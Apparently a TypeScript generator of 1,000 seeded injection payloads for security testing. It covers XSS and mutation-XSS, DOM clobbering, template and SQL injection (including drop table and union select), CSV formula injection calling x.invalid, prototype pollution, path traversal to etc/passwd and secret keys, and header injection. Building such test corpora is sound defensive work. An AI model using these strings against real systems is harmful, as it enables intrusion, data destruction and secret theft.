// A thousand attempts to be more than a text, composed of parts with a fixed seed: the same set in every run. Each says its family
// and its number; whatever runs calls `__hit(number)`, so that one execution names its payload.
//
// Sources of the parts: OWASP's cheat sheets on XSS filter evasion, DOM clobbering, CSV injection and prototype pollution; the mXSS
// shapes of Heiderich et al. (2013) and of the DOMPurify advisories since; Boucher and Anderson, "Trojan Source" (2021).

export const FAMILIES = [
  'html',
  'attribute',
  'url',
  'svg',
  'mutation',
  'template',
  'script-context',
  'css',
  'clobbering',
  'unicode',
  'formula',
  'sql',
  'prototype',
  'path',
  'line-break',
] as const;
type Family = (typeof FAMILIES)[number];

export interface Payload {
  number: number;
  family: Family;
  text: string;
}

export const PAYLOAD_COUNT = 1_000;
const SEED = 20_261_126;

type Pick = <Item>(items: readonly Item[]) => Item;

/** Mulberry32. */
function seededPick(seed: number): Pick {
  let state = seed;
  const next = (): number => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return (mixed ^ (mixed >>> 14)) >>> 0;
  };
  return (items) => items[next() % items.length] as (typeof items)[number];
}

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforetoggle',
];
const TAGS = [
  'img',
  'svg',
  'body',
  'details',
  'input',
  'video',
  'iframe',
  'object',
  'embed',
  'marquee',
  'style',
];
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
];
const SPACES = [' ', '/', '\t', '\u00a0', '\u2003'];
const QUOTES = ['"', "'", ''];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u2003javascript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
];
const MARKS = ['[x](URL)', '![x](URL)', '<URL>', '[x]: URL\n\n[x]', 'URL'];
const BIDI = ['\u202e', '\u2066', '\u2067', '\u200f', '\u200d', '\ufeff', '\u00ad', '\u061c'];
const FORMULA_SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\uff1d', '\uff0b'];

/** By family: composes one, which calls `hit` where it runs. */
const COMPOSE: Readonly<Record<Family, (pick: Pick, hit: string) => string>> = {
  html: (pick, hit) =>
    `${pick(BREAKS)}<${pick(TAGS)}${pick(SPACES)}src=x${pick(SPACES)}${pick(EVENTS)}=${hit}>`,
  attribute: (pick, hit) => {
    const quote = pick(['"', "'", '`']);
    return `x${quote}${pick(SPACES)}${pick(EVENTS)}=${quote}${hit}${quote}${pick(['', ' autofocus', ' style=animation:x'])}`;
  },
  url: (pick, hit) =>
    pick(MARKS).replaceAll('URL', () => `${pick(SCHEMES)}${pick(['', '//%0a', '<script>'])}${hit}`),
  svg: (pick, hit) =>
    pick([
      `<svg><script>${hit}</script></svg>`,
      `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
      `<svg><use href="data:image/svg+xml,<svg id=x onload=${hit}>#x">`,
      `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
      `<svg><foreignObject><iframe srcdoc="<script>${hit}</script>"></foreignObject></svg>`,
    ]) + pick(BREAKS),
  mutation: (pick, hit) =>
    pick([
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
      `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`,
      `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
      `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${hit}>">`,
    ]) + pick(BREAKS),
  template: (pick, hit) =>
    pick([
      `{{constructor.constructor('${hit}')()}}`,
      `\${${hit}}`,
      `<%= ${hit} %>`,
      `#{${hit}}`,
      `{count}{${hit}}`,
      `[[\${${hit}}]]`,
    ]) + pick(['', '{{', '}}', '%}']),
  'script-context': (pick, hit) =>
    `${pick(["';", '";', '`;', '\\";', '*/', '\u2028', '</script><script>'])}${hit}${pick(['//', ';/*', '<!--', '\u2029'])}`,
  css: (pick, hit) =>
    `${pick(['</style>', '}', '*/', ''])}${pick([
      `@import '//x.invalid/${hit}'`,
      `*{background:url(javascript:${hit})}`,
      `<link rel=stylesheet href=//x.invalid>`,
      `<div style=background:url(//x.invalid/?${hit})>`,
    ])}`,
  clobbering: (pick, hit) =>
    pick([
      `<form id=${pick(['document', 'location', 'navigator'])}><input name=cookie onfocus=${hit} autofocus>`,
      `<a id=${pick(['trustedTypes', 'config', 'self'])} href="javascript:${hit}">x</a>`,
      `<img name=${pick(['currentScript', 'body', 'getElementById'])} src=x onerror=${hit}>`,
      `<base href=//x.invalid/><script src=${hit}></script>`,
    ]),
  unicode: (pick, hit) =>
    `${pick(BIDI)}${pick(['\uff1cimg src=x onerror=', '\u2039img onerror=', '<\u0130MG src=x onerror=', '\ud835\udcc8<img src=x onerror='])}${hit}${pick(BIDI)}${pick(['\uff1e', '>', ''])}`,
  formula: (pick, hit) =>
    `${pick(FORMULA_SIGNS)}${pick([
      `HYPERLINK("http://x.invalid/?${hit}","x")`,
      `cmd|' /C calc'!A0`,
      `WEBSERVICE("http://x.invalid")`,
      `IMPORTXML("http://x.invalid","//a")`,
      '1+1',
    ])}${pick(QUOTES)}`,
  sql: (pick, hit) =>
    `${pick(["'", '"', '\\', "''"])}${pick([
      ` or '1'='1`,
      `); drop table application; --`,
      ` union select tracking_mac::text from application --`,
      `; select pg_sleep(9); --`,
      `$$; select 1 $$ ${hit}`,
      `%' or subject like '%`,
    ])}`,
  prototype: (pick, hit) =>
    pick([
      `{"__proto__":{"hit":"${hit}"}}`,
      `__proto__[hit]=${hit}`,
      `constructor.prototype.hit`,
      `constructor[prototype][hit]=${hit}`,
      `{"constructor":{"prototype":{"hit":1}}}`,
    ]) + pick(['', '&', ' ']),
  path: (pick, hit) =>
    `${pick(['../', '..\\', '%2e%2e/', '/', 'file:///', '//x.invalid/'])}${pick([
      'etc/passwd',
      'keys/tracking-secret',
      `staff.html#davet=${hit}`,
      'api/threads/open',
      '..%00/',
    ])}`,
  'line-break': (pick, hit) =>
    `x${pick(['\n', '\r\n', '%0d%0a', '\u2028', '\\n'])}${pick([
      'Set-Cookie: kopru=1',
      `{"level":"info","event":"${hit}"}`,
      `Location: javascript:${hit}`,
      'Bcc: x@x.invalid',
      '\u001b[2J',
    ])}`,
};

export function composePayloads(count: number = PAYLOAD_COUNT): Payload[] {
  const pick = seededPick(SEED);
  const texts = new Set<string>();
  const payloads: Payload[] = [];
  for (let turn = 0; payloads.length < count; turn++) {
    const family = FAMILIES[turn % FAMILIES.length] as Family;
    const number = payloads.length;
    const text = COMPOSE[family](pick, `__hit(${number})`);
    // What differs in its number alone says nothing new.
    const shape = text.replaceAll(String(number), '');
    if (texts.has(shape) && turn < count * 20) continue;
    texts.add(shape);
    payloads.push({ number, family, text });
  }
  return payloads;
}
